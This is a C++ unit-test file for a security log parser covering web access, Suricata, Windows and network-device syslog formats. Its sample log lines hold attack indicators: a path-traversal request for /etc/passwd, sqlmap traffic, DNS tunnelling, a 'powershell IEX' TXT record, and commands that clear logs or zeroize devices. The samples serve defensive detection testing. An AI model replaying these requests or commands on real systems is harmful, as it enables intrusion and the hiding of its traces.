    EXPECT_EQ(d["cs-user-agent"], "Mozilla/5.0 (X11; \"quoted\" agent)");
    EXPECT_EQ(d.time(), "2026-11-19T19:01:11.000Z");
    EXPECT_EQ(d.ev.logsource.Key(), "//webserver");

    auto c =
        Decode("192.0.2.4 - alice [20/Nov/2026:03:02:00 +0000] \"POST /login HTTP/1.0\" 302 -");
    ASSERT_TRUE(c.status) << Error(c);
    EXPECT_EQ(c["cs-username"], "alice");
    EXPECT_FALSE(c.has("sc-bytes"));
    EXPECT_FALSE(c.has("cs-user-agent"));
    EXPECT_FALSE(c.has("cs-uri-query"));

    // nginx escapes a quote as \x22; garbage requests are kept whole.
    auto n = Decode(
        "192.0.2.5 - - [20/Nov/2026:03:03:00 +0000] \"\\x16\\x03\\x01\" 400 150 "
        "\"-\" \"say \\x22hi\\x22\"");
    ASSERT_TRUE(n.status) << Error(n);
    EXPECT_EQ(n["request"], "\x16\x03\x01");
    EXPECT_EQ(n["cs-user-agent"], "say \"hi\"");
    EXPECT_FALSE(n.has("cs-referer"));

    EXPECT_EQ(Error(Decode("192.0.2.4 - - [20/Nov/2026:03:02:00 +0000] \"GET / HTTP/1.1\" OK 1",
                           Format::kAccess)),
              "access: at byte 60: expected a 3-digit status");
    EXPECT_EQ(Error(Decode("192.0.2.4 - - [yesterday] \"GET /\" 200 1", Format::kAccess)),
              "access: at byte 15: bad time, expected dd/Mon/yyyy:hh:mm:ss +zzzz");
}

// A request line with two spaces, and a line cut inside its user agent.
// Apache's vhost_combined (Debian's other_vhosts_access.log): "vhost:port" before the client.
TEST(Access, VhostCombined) {
    const char* line =
        "www.example.com:443 203.0.113.77 - - [20/Nov/2026:02:15:03 +0000] \"GET "
        "/download.php?file=../../../etc/passwd HTTP/1.1\" 200 1822 \"-\" \"Mozilla/5.0\"";
    for (Format f : {Format::kAuto, Format::kAccess}) {
        auto d = Decode(line, f);
        ASSERT_TRUE(d.status) << Error(d);
        EXPECT_EQ(d.format, Format::kAccess);
        EXPECT_EQ(d["cs-host"], "www.example.com");
        EXPECT_EQ(d["s-port"], "443");
        EXPECT_EQ(d["c-ip"], "203.0.113.77");
        EXPECT_EQ(d["cs-uri-query"], "file=../../../etc/passwd");
        EXPECT_EQ(d["sc-status"], "200");
    }
    // Not a vhost: a port that is not a number.
    EXPECT_FALSE(Decode("www.example.com:https 203.0.113.77 - - [20/Nov/2026:02:15:03 +0000] "
                        "\"GET / HTTP/1.1\" 200 1",
                        Format::kAccess)
                     .status);
}

TEST(Access, ExtraSpacesAndAnUnclosedUserAgent) {
    auto d = Decode(
        "203.0.113.66 - - [20/Nov/2026:03:01:11 +0800] \"GET  /x?a=1 HTTP/1.1\" 200 5 \"-\" "
        "\"sqlmap/1.7 (https://sqlm");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["cs-uri"], "/x?a=1");
    EXPECT_EQ(d["cs-uri-stem"], "/x");
    EXPECT_EQ(d["cs-version"], "HTTP/1.1");
    EXPECT_EQ(d["cs-user-agent"], "sqlmap/1.7 (https://sqlm");
}

// --- JSON shapes ---

TEST(Json, SuricataEve) {
    auto a = Decode(
        R"({"timestamp":"2026-11-20T05:20:00.000100+0000","flow_id":1,"in_iface":"eth1","event_type":"alert","src_ip":"203.0.113.8","src_port":4444,"dest_ip":"198.51.100.9","dest_port":445,"proto":"TCP","alert":{"action":"allowed","signature_id":2100498,"signature":"GPL ATTACK_RESPONSE id check returned root","severity":2}})");
    ASSERT_TRUE(a.status) << Error(a);
    EXPECT_EQ(a.format, Format::kSuricata);
    EXPECT_EQ(a["alert.signature_id"], "2100498");
    EXPECT_EQ(a["dst_ip"], "198.51.100.9");
    EXPECT_EQ(a.ev.logsource.Key(), "suricata/alert/");
    EXPECT_EQ(a.time(), "2026-11-20T05:20:00.000Z");

    auto d = Decode(
        R"({"timestamp":"2026-11-20T05:21:00+0000","event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","dns":{"type":"query","rrname":"aGVsbG8gd29ybGQ==.tunnel.example","rrtype":"TXT"}})");
    EXPECT_EQ(d["query"], "aGVsbG8gd29ybGQ==.tunnel.example");
    EXPECT_EQ(d["record_type"], "TXT");
    EXPECT_TRUE(d.ev.logsource.HasCategory("dns"));

    // EVE version 3 lists the queries; every answer is an answer.
    auto v3 = Decode(
        R"({"event_type":"dns","src_ip":"10.0.0.53","dest_ip":"10.0.0.5","dns":{"version":3,"type":"response","queries":[{"rrname":"stage.example","rrtype":"TXT"}],"answers":[{"rrname":"stage.example","rrtype":"TXT","rdata":"v=spf1 -all"},{"rrname":"stage.example","rrtype":"TXT","rdata":"powershell IEX"}]}})");
    EXPECT_EQ(v3["query"], "stage.example");
    EXPECT_EQ(v3["record_type"], "TXT");
    EXPECT_EQ(v3.all("answer"), (std::vector<std::string>{"v=spf1 -all", "powershell IEX"}));

    auto h = Decode(
        R"({"event_type":"http","src_ip":"10.0.0.5","dest_ip":"192.0.2.80","http":{"hostname":"files.example","url":"/a.hta","http_user_agent":"Microsoft-WebDAV-MiniRedir/10.0.19045","http_method":"PROPFIND","status":207}})");
    EXPECT_EQ(h["c-uri"], "/a.hta");
    EXPECT_EQ(h["c-useragent"], "Microsoft-WebDAV-MiniRedir/10.0.19045");
    EXPECT_EQ(h["cs-method"], "PROPFIND");
    EXPECT_TRUE(h.ev.logsource.HasCategory("proxy"));
    EXPECT_TRUE(h.ev.message.empty());  // JSON events are their fields
}

TEST(Json, WindowsShapes) {
    auto w = Decode(
        R"({"@timestamp":"2026-11-20T06:00:00.000Z","winlog":{"channel":"Security","event_id":4625,"event_data":{"TargetUserName":"administrator","IpAddress":"203.0.113.77","LogonType":"3"}}})");
    ASSERT_TRUE(w.status) << Error(w);
    EXPECT_EQ(w.format, Format::kWinJson);
    EXPECT_EQ(w["winlog.event_id"], "4625");
    EXPECT_EQ(w.ev.logsource.product, "windows");

    auto n = Decode(
        R"({"EventTime":"2026-11-20 06:00:01","Hostname":"WS-07","EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","NewProcessName":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all"})");
    ASSERT_TRUE(n.status) << Error(n);
    EXPECT_EQ(n.format, Format::kWinJson);
    EXPECT_EQ(n["NewProcessName"], "C:\\Windows\\System32\\whoami.exe");

    EXPECT_EQ(Decode(R"({"a":1})").format, Format::kJson);
    EXPECT_NE(Error(Decode("{\"a\":", Format::kJson)), "");
    EXPECT_EQ(Error(Decode(R"({"a":1})", Format::kSuricata)),
              "suricata: at byte 0: no event_type: not a Suricata EVE record");
}

// --- network devices ---

TEST(NetworkDevice, CiscoIosSequenceNumberAndUnsynchronisedClock) {
    // The sequence number ("52:") was taken for a program and the tag left in the message; a
    // clock marked '*' (not synchronised: a router's clock from boot) is not the event's time.
    auto d = Decode(
        "<189>52: *Mar  1 00:01:36.619: %LINK-3-UPDOWN: Interface "
        "GigabitEthernet0/1, changed state to up");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.format, Format::kSyslog);
    EXPECT_EQ(d.ev.logsource.product, "cisco");
    EXPECT_EQ(d.ev.logsource.service, "syslog");
    EXPECT_EQ(d["device.seq"], "52");
    EXPECT_EQ(d["device.facility"], "LINK");
    EXPECT_EQ(d["device.severity"], "3");
    EXPECT_EQ(d["device.mnemonic"], "UPDOWN");
    EXPECT_FALSE(d.has("program"));
    EXPECT_FALSE(d.has("host"));
    EXPECT_EQ(d["message"], "%LINK-3-UPDOWN: Interface GigabitEthernet0/1, changed state to up");
    EXPECT_EQ(d.time(), "-");
    EXPECT_EQ(d["facility"], "local7");
}

TEST(NetworkDevice, CiscoClocksWithYearZoneAndRelayHeader) {
    // The device's own clock, with its year and a zone name (UTC read as UTC, another name in
    // the source's zone: CST is China's and America's).
    auto a = Decode(
        "<189>1234: Nov 20 2026 10:01:02.123 UTC: %SYS-5-CONFIG_I: Configured from "
        "console by admin on vty0 (10.1.1.1)");
    ASSERT_TRUE(a.status) << Error(a);
    EXPECT_EQ(a.time(), "2026-11-20T10:01:02.123Z");
    EXPECT_EQ(a["user"], "admin");
    EXPECT_EQ(a["source_ip"], "10.1.1.1");
    EXPECT_EQ(a.ev.logsource.service, "syslog");
    DecodeOptions plus8;
    plus8.zone = *TimeZone::Parse("+08:00");
    auto b = Decode(
        "<189>Nov 20 10:01:02.123 CST: %SYS-5-CONFIG_I: Configured from console by "
        "admin on vty0 (10.1.1.1)",
        Format::kAuto, plus8);
    ASSERT_TRUE(b.status) << Error(b);
    EXPECT_EQ(b.time(), "2026-11-20T02:01:02.123Z");
    EXPECT_FALSE(b.has("host"));
    // A relay (rsyslog's file output, forwarded) put its header before the device's: the
    // sender's address is the host; the device's unsynchronised clock yields to the relay's.
    auto c = Decode(
        "Nov 20 10:01:02 10.0.0.1 52: *Mar  1 00:01:36.619: %SEC_LOGIN-4-LOGIN_FAILED: "
        "Login failed [user: admin] [Source: 203.0.113.9] [localport: 22] [Reason: "
        "Login Authentication Failed] at 00:01:36 UTC Mon Mar 1 1993");
    ASSERT_TRUE(c.status) << Error(c);
    EXPECT_EQ(c.time(), "2026-11-20T10:01:02.000Z");
    EXPECT_EQ(c["host"], "10.0.0.1");
    EXPECT_EQ(c["device.seq"], "52");
    EXPECT_EQ(c["user"], "admin");
    EXPECT_EQ(c["source_ip"], "203.0.113.9");
    EXPECT_EQ(c["dst_port"], "22");
    EXPECT_EQ(c["outcome"], "failure");
    // The device's name after its clock.
    auto n = Decode(
        "<166>Nov 20 2026 10:01:02 asa-edge-1 : %ASA-6-605005: Login permitted from "
        "10.1.1.1/51234 to inside:10.0.0.1/ssh for user \"admin\"");
    ASSERT_TRUE(n.status) << Error(n);
    EXPECT_EQ(n["host"], "asa-edge-1");
    EXPECT_EQ(n.time(), "2026-11-20T10:01:02.000Z");
    EXPECT_EQ(n["outcome"], "success");
    EXPECT_EQ(n["user"], "admin");
    EXPECT_EQ(n["source_ip"], "10.1.1.1");
    // NX-OS: the year first.
    auto x = Decode(
        "<189>: 2026 Nov 20 10:01:02 UTC: %ETHPORT-5-IF_DOWN_LINK_FAILURE: Interface "
        "Ethernet1/1 is down (Link failure)");
    ASSERT_TRUE(x.status) << Error(x);
    EXPECT_EQ(x.time(), "2026-11-20T10:01:02.000Z");
    EXPECT_EQ(x["device.facility"], "ETHPORT");
}

TEST(NetworkDevice, CiscoServicesForSigmasNetworkRules) {
    // Commands logged by `archive / log config / notify syslog`: service aaa, which SigmaHQ's
    // cisco_cli_* rules read.
    auto cmd = Decode(
        "<189>77: Nov 20 10:01:02.001 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: "
        "User:netops  logged command:no logging host 192.0.2.50");
    ASSERT_TRUE(cmd.status) << Error(cmd);
    EXPECT_EQ(cmd.ev.logsource.product, "cisco");
    EXPECT_EQ(cmd.ev.logsource.service, "aaa");
    EXPECT_EQ(cmd["user"], "netops");
    EXPECT_EQ(cmd["command"], "no logging host 192.0.2.50");
    auto bgp = Decode(
        "<187>88: Nov 20 10:01:02 UTC: %IP-TCP-3-BADAUTH: Invalid MD5 digest from "
        "192.0.2.1:179 to 192.0.2.2:11003");
    ASSERT_TRUE(bgp.status) << Error(bgp);
    EXPECT_EQ(bgp["device.facility"], "IP-TCP");
    EXPECT_EQ(bgp.ev.logsource.service, "bgp");
    // IOS XR: node, clock, process and a tag with " :".
    auto xr = Decode(
        "<189>1234: RP/0/RSP0/CPU0:Nov 20 10:01:02.123 UTC: bgp[1052]: "
        "%ROUTING-BGP-5-ADJCHANGE : neighbor 192.0.2.9 Down - BGP Notification sent");
    ASSERT_TRUE(xr.status) << Error(xr);
    EXPECT_EQ(xr["device.node"], "RP/0/RSP0/CPU0");
    EXPECT_EQ(xr["program"], "bgp");
    EXPECT_EQ(xr["pid"], "1052");
    EXPECT_EQ(xr["device.facility"], "ROUTING-BGP");
    EXPECT_EQ(xr.ev.logsource.service, "bgp");
    EXPECT_EQ(xr.time(), "2026-11-20T10:01:02.123Z");
    auto ldp = Decode(
        "<188>9: Nov 20 10:01:02 UTC: %MPLS_LDP-4-PWDRCVD: Password received from "
        "192.0.2.7:646");
    EXPECT_EQ(ldp.ev.logsource.service, "ldp");
    // RFC 5424 from IOS XE: the tag leads the MSG.
    auto r = Decode(
        "<189>1 2026-11-20T10:01:02.123Z rtr-1 - - - - %SEC_LOGIN-5-WEBLOGIN_SUCCESS: "
        "Login Success [user: cisco_tac_admin] [Source: 198.51.100.4]");
    ASSERT_TRUE(r.status) << Error(r);
    EXPECT_EQ(r.ev.logsource.product, "cisco");
    EXPECT_EQ(r.ev.logsource.service, "syslog");
    EXPECT_EQ(r["host"], "rtr-1");
    EXPECT_EQ(r["user"], "cisco_tac_admin");
    EXPECT_EQ(r["outcome"], "success");
}

TEST(NetworkDevice, AsaCommandsAndConnectionsForTheFirewallCategory) {
    auto cmd = Decode(
        "<165>%ASA-5-111010: User 'admin', running 'CLI' from IP 10.1.1.1, executed "
        "'clear logging buffer'");
    ASSERT_TRUE(cmd.status) << Error(cmd);
    EXPECT_EQ(cmd.ev.logsource.product, "cisco");
    EXPECT_EQ(cmd.ev.logsource.service, "aaa");
    EXPECT_EQ(cmd["user"], "admin");
    EXPECT_EQ(cmd["source_ip"], "10.1.1.1");
    EXPECT_EQ(cmd["command"], "clear logging buffer");
    EXPECT_EQ(cmd["device.mnemonic"], "111010");
    auto c9 = Decode("<167>%ASA-7-111009: User 'admin' executed cmd: show running-config");
    EXPECT_EQ(c9["command"], "show running-config");
    // Inbound: the first side is the source; outbound: the destination.
    auto in = Decode(
        "<166>%ASA-6-302013: Built inbound TCP connection 9 for "
        "outside:203.0.113.9/51234 (203.0.113.9/51234) to inside:10.0.0.5/23 "
        "(198.51.100.5/23)");
    ASSERT_TRUE(in.status) << Error(in);
    EXPECT_TRUE(in.ev.logsource.HasCategory("firewall"));
    EXPECT_EQ(in["src_ip"], "203.0.113.9");
    EXPECT_EQ(in["dst_ip"], "10.0.0.5");
    EXPECT_EQ(in["dst_port"], "23");
    EXPECT_EQ(in["protocol"], "tcp");
    EXPECT_EQ(in["action"], "accept");
    auto out = Decode(
        "<166>%ASA-6-302013: Built outbound TCP connection 10 for "
        "outside:93.184.216.34/443 (93.184.216.34/443) to inside:10.0.0.5/51000 "
        "(198.51.100.5/40000)");
    EXPECT_EQ(out["src_ip"], "10.0.0.5");
    EXPECT_EQ(out["dst_ip"], "93.184.216.34");
    EXPECT_EQ(out["dst_port"], "443");
    auto deny = Decode(
        "<164>%ASA-4-106023: Deny tcp src outside:203.0.113.9/51234 dst "
        "inside:10.0.0.5/3389 by access-group \"OUTSIDE_IN\" [0x0, 0x0]");
    EXPECT_EQ(deny["action"], "drop");
    EXPECT_EQ(deny["blocked"], "true");
    EXPECT_EQ(deny["dst_port"], "3389");
    EXPECT_EQ(deny["rule"], "OUTSIDE_IN");
    auto acl = Decode(
        "<166>%ASA-6-106100: access-list OUTSIDE_IN permitted tcp "
        "outside/203.0.113.9(51234) -> inside/10.0.0.5(21) hit-cnt 1 first hit "
        "[0x1, 0x0]");
    EXPECT_EQ(acl["action"], "accept");
    EXPECT_EQ(acl["src_ip"], "203.0.113.9");
    EXPECT_EQ(acl["dst_port"], "21");
    auto aaa = Decode(
        "<164>%ASA-4-113015: AAA user authentication Rejected : reason = Invalid "
        "password : local database : user = admin : user IP = 203.0.113.9");
    EXPECT_EQ(aaa["user"], "admin");
    EXPECT_EQ(aaa["source_ip"], "203.0.113.9");
    EXPECT_EQ(aaa["outcome"], "failure");
}

TEST(NetworkDevice, HuaweiAndH3cCommandRecords) {
    auto hw = Decode(
        "<189>Nov 20 2026 10:01:02+08:00 CORE-SW-1 %%01SHELL/5/CMDRECORD(s)[0]:"
        "Recorded command information. (Task=VT0, Ip=10.1.1.1, VpnName=, User=admin, "
        "AuthenticationMethod=\"Local-user\", Command=\"display current-configuration\", "
        "Result=Success)");
    ASSERT_TRUE(hw.status) << Error(hw);
    EXPECT_EQ(hw.ev.logsource.product, "huawei");
    EXPECT_EQ(hw.time(), "2026-11-20T02:01:02.000Z");
    EXPECT_EQ(hw["host"], "CORE-SW-1");
    EXPECT_EQ(hw["device.facility"], "SHELL");
    EXPECT_EQ(hw["device.mnemonic"], "CMDRECORD");
    EXPECT_EQ(hw["user"], "admin");
    EXPECT_EQ(hw["source_ip"], "10.1.1.1");
    EXPECT_EQ(hw["command"], "display current-configuration");
    EXPECT_EQ(hw["Result"], "Success");
    EXPECT_FALSE(hw.has("VpnName"));
    auto bgp = Decode(
        "<187>Nov 20 2026 10:01:02 PE-1 %%01BGP/3/BGP_AUTH_FAILED(l)[5]:BGP "
        "session authentication failed. (PeerAddress=192.0.2.1:179, "
        "TcpConnSocket=12)");
    ASSERT_TRUE(bgp.status) << Error(bgp);
    EXPECT_EQ(bgp.ev.logsource.product, "huawei");
    EXPECT_EQ(bgp.ev.logsource.service, "bgp");
    // H3C: milliseconds after a colon, the year after the clock.
    auto h3c = Decode(
        "<189>Nov 20 10:01:02:123 2026 H3C-AGG-2 %%10SHELL/5/SHELL_CMD: "
        "-Line=vty0-IPAddr=10.1.1.1-User=net-ops; Command is "
        "display current-configuration");
    ASSERT_TRUE(h3c.status) << Error(h3c);
    EXPECT_EQ(h3c.ev.logsource.product, "h3c");
    EXPECT_EQ(h3c.time(), "2026-11-20T10:01:02.123Z");
    EXPECT_EQ(h3c["host"], "H3C-AGG-2");
    EXPECT_EQ(h3c["user"], "net-ops");
    EXPECT_EQ(h3c["source_ip"], "10.1.1.1");
    EXPECT_EQ(h3c["command"], "display current-configuration");
}

TEST(NetworkDevice, JunosDaemonsAndTags) {
    auto cmd = Decode(
        "<189>Nov 20 10:01:02 mx-1 mgd[4242]: UI_CMDLINE_READ_LINE: User 'netops', "
        "command 'show configuration '");
    ASSERT_TRUE(cmd.status) << Error(cmd);
    EXPECT_EQ(cmd.ev.logsource.product, "juniper");
    EXPECT_EQ(cmd["device.mnemonic"], "UI_CMDLINE_READ_LINE");
    EXPECT_EQ(cmd["user"], "netops");
    EXPECT_EQ(cmd["command"], "show configuration");
    auto md5 = Decode(
        "<28>Nov 20 10:01:02 mx-1 /kernel: tcp_auth_ok: Packet from 192.0.2.1:179 "
        "missing MD5 digest");
    EXPECT_EQ(md5.ev.logsource.product, "juniper");
    EXPECT_EQ(md5.ev.logsource.service, "bgp");
    auto ssh = Decode(
        "<38>Nov 20 10:01:02 srx-1 sshd[999]: SSHD_LOGIN_FAILED: Login failed for "
        "user 'root' from host '203.0.113.9'");
    EXPECT_EQ(ssh.ev.logsource.product, "juniper");
    EXPECT_EQ(ssh["user"], "root");
    EXPECT_EQ(ssh["source_ip"], "203.0.113.9");
    EXPECT_EQ(ssh["outcome"], "failure");
    auto sd = Decode(
        "<189>1 2026-11-20T10:01:02.5Z mx-1 mgd 4242 UI_CMDLINE_READ_LINE "
        "[junos@2636.1.1.1.2.57 username=\"netops\" command=\"request system zeroize\"] "
        "User 'netops', command 'request system zeroize '");
    EXPECT_EQ(sd.ev.logsource.product, "juniper");
    EXPECT_EQ(sd["command"], "request system zeroize");
}

// Found by a review: the forms below lost the whole line (Linux syslog, program "52").
TEST(NetworkDevice, IsoClocksZoneNamesAndPrefixesOfEveryShape) {
    // rsyslog's RFC 3339 file format as the relay's header; ASA's `logging timestamp rfc5424`;
    // Huawei VRP8's and H3C's ISO clocks.
    auto relay = Decode(
        "2026-11-20T10:01:05.123+00:00 10.0.0.1 52: Nov 20 10:01:02.123 UTC: "
        "%PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no logging host "
        "10.9.9.9");
    ASSERT_TRUE(relay.status) << Error(relay);
    EXPECT_EQ(relay.ev.logsource.service, "aaa");
    EXPECT_EQ(relay["host"], "10.0.0.1");
    EXPECT_EQ(relay.time(), "2026-11-20T10:01:02.123Z");
    auto asa = Decode(
        "<166>2026-11-20T10:01:02Z asa-edge-1 : %ASA-5-111008: User 'admin' "
        "executed the 'no logging enable' command.");
    EXPECT_EQ(asa.ev.logsource.service, "aaa");
    EXPECT_EQ(asa["host"], "asa-edge-1");
    EXPECT_EQ(asa["command"], "no logging enable");
    EXPECT_EQ(asa.time(), "2026-11-20T10:01:02.000Z");
    auto hw = Decode(
        "<189>2026-11-20 10:01:02 CORE-SW-1 %%01BGP/3/BGP_AUTH_FAILED(l)[1]:BGP "
        "session authentication failed. (PeerAddress=192.0.2.1:179)");
    EXPECT_EQ(hw.ev.logsource.product, "huawei");
    EXPECT_EQ(hw["host"], "CORE-SW-1");
    EXPECT_EQ(hw.time(), "2026-11-20T10:01:02.000Z");
    // IOS's `show-timezone` prints the name `clock timezone` was given.
    const auto zoned = [](std::string_view zone) {
        return Decode("<189>53: Nov 20 2026 10:01:02.123 " + std::string(zone) +
                      ": %SYS-5-CONFIG_I: Configured from console by admin on vty0 (10.1.1.1)");
    };
    EXPECT_EQ(zoned("GMT+8").time(), "2026-11-20T02:01:02.123Z");
    EXPECT_EQ(zoned("UTC+5:30").time(), "2026-11-20T04:31:02.123Z");
    EXPECT_EQ(zoned("+08:00").time(), "2026-11-20T02:01:02.123Z");
    for (std::string_view name : {"BJ", "EST5EDT", "CET-1", "Z"}) {
        auto d = zoned(name);
        EXPECT_EQ(d.ev.logsource.product, "cisco") << name;
        EXPECT_FALSE(d.has("host")) << name;
        EXPECT_EQ(d.time(), "2026-11-20T10:01:02.123Z") << name;  // the source's zone: UTC
    }
    // `logging origin-id hostname`, `service sequence-numbers`, `service timestamps log uptime`.
    auto origin = Decode(
        "Nov 20 10:01:05 10.0.0.1 71: CORE-RTR-1: *Mar  1 00:01:36.619: "
        "%PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no logging on");
    ASSERT_TRUE(origin.status) << Error(origin);
    EXPECT_EQ(origin.ev.logsource.service, "aaa");
    EXPECT_EQ(origin["host"], "10.0.0.1");
    EXPECT_EQ(origin["device.name"], "CORE-RTR-1");
    EXPECT_EQ(origin.time(), "2026-11-20T10:01:05.000Z");
    auto own = Decode(
        "<189>75: CORE-RTR-1: 000075: *Mar  1 00:01:36.619: %SYS-5-CONFIG_I: "
        "Configured from console by admin on vty0 (10.1.1.1)");
    EXPECT_EQ(own["host"], "CORE-RTR-1");
    EXPECT_EQ(own["device.seq"], "75");
    for (std::string_view line :
         {"<189>72: 000072: *Mar  1 00:01:36.619: %SYS-5-CONFIG_I: x",
          "<189>73: 1w2d: %SYS-5-CONFIG_I: x", "<189>59: 00:01:36: %SYS-5-CONFIG_I: x"}) {
        auto d = Decode(line);
        EXPECT_EQ(d.ev.logsource.product, "cisco") << line;
        EXPECT_FALSE(d.has("host")) << line;
    }
}

TEST(NetworkDevice, ReviewedFieldsAndJunosExplicitPriority) {
    // The IOS XE web UI implant's configuration change names its account after "as".
    auto p = Decode(
        "<189>9: Nov 20 10:01:02 UTC: %SYS-5-CONFIG_P: Configured programmatically "
        "by process SEP_webui_wsma_http from console as cisco_tac_admin on vty31");
    EXPECT_EQ(p["user"], "cisco_tac_admin");
    auto line = Decode(
        "<189>9: Nov 20 10:01:02 UTC: %SYS-5-CONFIG_I: Configured from console by "
        "vty0 (10.1.1.1)");
    EXPECT_FALSE(line.has("user"));  // vty0 is the line, not a user
    EXPECT_EQ(line["source_ip"], "10.1.1.1");
    // Junos `explicit-priority`.
    auto cmd = Decode(
        "<189>Nov 20 10:01:02 mx-1 mgd[1234]: %INTERACTIVE-6-UI_CMDLINE_READ_LINE: "
        "User 'admin', command 'deactivate system syslog '");
    EXPECT_EQ(cmd["device.mnemonic"], "UI_CMDLINE_READ_LINE");
    EXPECT_EQ(cmd["command"], "deactivate system syslog");
    auto ssh = Decode(
        "<38>Nov 20 10:01:02 srx-1 sshd[999]: %AUTH-3-SSHD_LOGIN_FAILED: Login "
        "failed for user 'root' from host '203.0.113.9'");
    EXPECT_EQ(ssh.ev.logsource.product, "juniper");
    EXPECT_EQ(ssh["outcome"], "failure");
    auto auth = Decode(
        "<38>Nov 20 10:01:02 mx-1 mgd[1234]: UI_AUTH_EVENT: Authenticated user "
        "'admin' at permission level 'j-super-user'");
    EXPECT_EQ(auth["user"], "admin");
    // Not Junos: FRRouting's bfdd, BIRD's protocol names, a desktop's tags.
    for (std::string_view l : {"<30>Nov 20 10:01:02 r1 bfdd[812]: peer up",
                               "<30>Nov 20 10:01:02 r1 bird: BGP_ISP1: Received: Hold timer "
                               "expired",
                               "<30>Nov 20 10:01:02 pc gnome-shell[2000]: UI_CONTROLLER: x"}) {
        EXPECT_EQ(Decode(l).ev.logsource.product, "linux") << l;
    }
    // ASA denials without ports (ICMP, a protocol by number); an established flow let through.
    auto icmp = Decode(
        "<164>%ASA-4-106023: Deny icmp src outside:203.0.113.5 dst "
        "inside:10.1.1.5 (type 8, code 0) by access-group \"outside_in\" [0x0, 0x0]");
    EXPECT_EQ(icmp["src_ip"], "203.0.113.5");
    EXPECT_EQ(icmp["dst_ip"], "10.1.1.5");
    EXPECT_FALSE(icmp.has("dst_port"));
    EXPECT_EQ(icmp["rule"], "outside_in");
    EXPECT_TRUE(icmp.ev.logsource.HasCategory("firewall"));
    auto gre = Decode(
        "<164>%ASA-4-106023: Deny protocol 47 src outside:203.0.113.5 dst "
        "inside:10.1.1.5 by access-group \"outside_in\" [0x0, 0x0]");
    EXPECT_EQ(gre["protocol"], "47");
    EXPECT_EQ(gre["action"], "drop");
    auto est = Decode(
        "<166>%ASA-6-106100: access-list IN est-allowed tcp outside/203.0.113.9(443) "
        "-> inside/10.0.0.5(51000) hit-cnt 1 first hit [0x1, 0x0]");
    EXPECT_EQ(est["action"], "accept");
}

TEST(NetworkDevice, LinuxLinesWithPercentSignsStayLinux) {
    // A '%' in an ordinary line is no tag, and a second name before the tag (a program) is no
    // device's prefix.
    for (std::string_view line : {"<30>Nov 20 10:01:02 web-1 backup[12]: 50% done, %s placeholder",
                                  "<30>Nov 20 10:01:02 web-1 kernel: %FOO-1-BAR: not a router",
                                  "<30>Nov 20 10:01:02 web-1 app: value=%ASA-6-1234567: no"}) {
        auto d = Decode(line);
        ASSERT_TRUE(d.status) << Error(d);
        EXPECT_EQ(d.ev.logsource.product, "linux") << line;
        EXPECT_EQ(d["host"], "web-1") << line;
        EXPECT_FALSE(d.has("device.facility")) << line;
    }
}

// --- detection, limits ---

TEST(Detect, PicksTheRightDecoder) {
    const std::map<std::string, Format> cases = {
        {"<34>1 2026-11-20T02:14:01Z h a - - - m", Format::kSyslog},
        {"<34>Nov 20 02:14:01 h a: m", Format::kSyslog},
        {"Nov  2 02:14:01 h a: m", Format::kSyslog},
        {"2026-11-20T02:14:01+00:00 h a: m", Format::kSyslog},
        {"\xEF\xBB\xBF{\"a\":1}", Format::kJson},
        {R"({"event_type":"dns","src_ip":"1.2.3.4"})", Format::kSuricata},
        {R"({"winlog":{"event_id":1}})", Format::kWinJson},
        {"CEF:0|a|b|c|d|e|f|", Format::kCef},
        {"LEEF:1.0|a|b|c|d|", Format::kLeef},
        {"type=EOE msg=audit(1.2:3):", Format::kAuditd},
        {"node=h type=EOE msg=audit(1.2:3):", Format::kAuditd},
        {"10.0.0.1 - - [20/Nov/2026:03:01:11 +0000] \"GET / HTTP/1.1\" 200 1", Format::kAccess},
        {"DROP IN=eth0 OUT= SRC=1.2.3.4 DST=5.6.7.8 PROTO=UDP", Format::kIptables},
        {"a=1 b=2", Format::kKv},
        {"[2026-01-01 10:00] GET /", Format::kText},
        {"", Format::kText},
    };
    for (const auto& [line, f] : cases) EXPECT_EQ(Detect(line), f) << line;
}

TEST(Names, RoundTrip) {
    for (auto n : FormatNames()) {
        auto f = FormatByName(n);
        ASSERT_TRUE(f) << n;
        EXPECT_EQ(FormatName(*f), n);
    }
    EXPECT_FALSE(FormatByName("xml"));
}

TEST(Limits, OversizedLinesAndFieldCaps) {
    DecodeOptions opt;
    opt.max_line_bytes = 100;
    auto big = Decode(std::string(101, 'a'), Format::kAuto, opt);
    EXPECT_EQ(Error(big), "line of 101 bytes exceeds the limit of 100");

    std::string many;
    for (int i = 0; i < 5000; ++i) many += "k" + std::to_string(i) + "=v ";
    LineDecoder d({.max_fields = 16, .now_ns = kNow});
    event::Event ev;
    ASSERT_TRUE(d.Decode(many, Format::kKv, ev));
    EXPECT_EQ(ev.size(), 16u);
    EXPECT_EQ(d.stats().fields_dropped, 5000u - 16u);
}

TEST(Limits, InvalidUtf8IsKeptAndEscapedOnOutput) {
    auto d = Decode("<13>Nov 20 02:14:01 h app: bad \xFF\xFE bytes");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["message"], "bad \xFF\xFE bytes");
    std::string json;
    d.ev.AppendJson(json);
    EXPECT_NE(json.find("\\u00ff"), std::string::npos) << json;
}

TEST(Text, UnknownLinesAreMessagesNotErrors) {
    auto d = Decode("something happened");
    ASSERT_TRUE(d.status);
    EXPECT_EQ(d.format, Format::kText);
    EXPECT_EQ(d.ev.size(), 0u);
    EXPECT_EQ(d.ev.message, "something happened");
}

}  // namespace
}  // namespace vigil::parse
